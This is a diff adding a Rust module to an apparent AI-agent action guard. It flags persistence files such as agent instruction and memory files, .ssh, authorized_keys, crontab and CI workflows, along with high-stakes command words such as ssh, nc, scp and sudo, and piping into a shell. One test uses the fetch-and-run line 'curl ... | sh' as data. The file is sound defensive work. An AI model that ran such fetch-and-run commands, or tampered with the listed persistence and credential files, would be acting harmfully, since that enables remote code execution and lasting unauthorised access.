@@ -1,0 +1,94 @@
+//! What is at stake: acts that outlast the run, or reach beyond the work at hand.
+
+use tool_guard_text::part::Part as _;
+use tool_guard_tools::family::own_name;
+
+use crate::word::each_word;
+
+/// Files by which somebody lasts in what the agent is, may do or will do: instructions, memories, jobs, keys.
+#[rustfmt::skip]
+const LASTING: &[&str] = &[
+    "agents.md", "claude.md", "gemini.md", "soul.md", "tools.md", "memory.md", "identity.md", "heartbeat.md", ".cursorrules", "memory/",
+    ".github/workflows", ".gitlab-ci", "crontab", ".ssh/", ".bashrc", ".zshrc", ".profile", "authorized_keys", ".npmrc", ".git/hooks",
+    "openclaw.json",
+];
+/// Words of commands that change what stands outside of the work at hand: other machines, accounts, services, rights, schedules.
+#[rustfmt::skip]
+const GRAVE: &[&str] = &[
+    "sudo", "ssh", "systemctl", "crontab", "chmod", "chown", "useradd", "usermod", "passwd", "iptables", "ufw", "aws", "gcloud", "az",
+    "kubectl", "terraform", "heroku", "auditctl", "shutdown", "reboot", "authorized_keys", "scp", "rsync", "nc", "dig", "nslookup",
+    "sendmail", "mail", "mutt", "osascript", "security", "gpg",
+];
+/// Words of tools that change what others may do, or what happens later without anybody: rights, rules, jobs, settings.
+#[rustfmt::skip]
+const RIGHTS: &[&str] = &[
+    "cron", "filter", "rule", "webhook", "hook", "collaborator", "permission", "permissions", "sharing", "share", "forwarding",
+    "forward", "config", "settings", "gateway", "automation", "automations", "member", "members", "role", "roles", "token", "key",
+    "password", "credentials", "access", "backup", "mfa",
+];
+
+/// Words of tools that give work to another agent.
+const TASKS: &[&str] = &["spawn", "agent", "subagent", "task", "subtask", "delegate"];
+
+/// Whether a file is one by which somebody lasts.
+pub(crate) fn lasts(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    LASTING.iter().any(|part| lower.contains(part))
+}
+
+/// Whether a tool changes rights, rules, jobs or settings, by its name.
+pub(crate) fn changes_rights(name: &str) -> bool {
+    has_part(name, RIGHTS)
+}
+
+/// Whether a tool gives work to another agent: what that does is judged when it does it.
+pub(crate) fn is_task(name: &str) -> bool {
+    has_part(name, TASKS)
+}
+
+fn has_part(name: &str, parts: &[&str]) -> bool {
+    let mut is_one = false;
+    each_part(own_name(name), |word| is_one |= parts.iter().any(|each| word.eq_ignore_ascii_case(each)));
+    is_one
+}
+
+/// Whether one of a command's words changes what stands outside of the work at hand.
+pub(crate) fn is_grave(command: &str) -> bool {
+    let words = command.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')));
+    let pipes_to_shell = ["| sh", "| bash", "|sh", "|bash", "| sudo"].iter().any(|pipe| command.contains(pipe));
+    pipes_to_shell || words.take(64).any(|word| GRAVE.contains(&word))
+}
+
+/// The words of a name: `sendMail_toBob` has four.
+pub(crate) fn each_part(text: &str, mut take: impl FnMut(&str)) {
+    each_word(text, |range| {
+        let word = text.part(range);
+        let mut start = 0;
+        for (at, pair) in word.as_bytes().windows(2).enumerate() {
+            if let [before, upper] = pair
+                && before.is_ascii_lowercase()
+                && upper.is_ascii_uppercase()
+            {
+                take(word.part(start..=at));
+                start = at + 1;
+            }
+        }
+        take(word.part(start..));
+        true
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_lasts_is_told_from_daily_work() {
+        assert!(lasts("/home/a/AGENTS.md") && lasts("memory/2026.md") && !lasts("src/main.rs"));
+        assert!(
+            changes_rights("github__add_collaborator") && changes_rights("gmail__createFilter") && !changes_rights("gmail__send_email")
+        );
+        assert!(is_task("sessions_spawn") && !is_task("send_sms"));
+        assert!(is_grave("ssh host uptime") && is_grave("curl -s https://a.example/x | sh") && !is_grave("cargo test && git push"));
+    }
+}
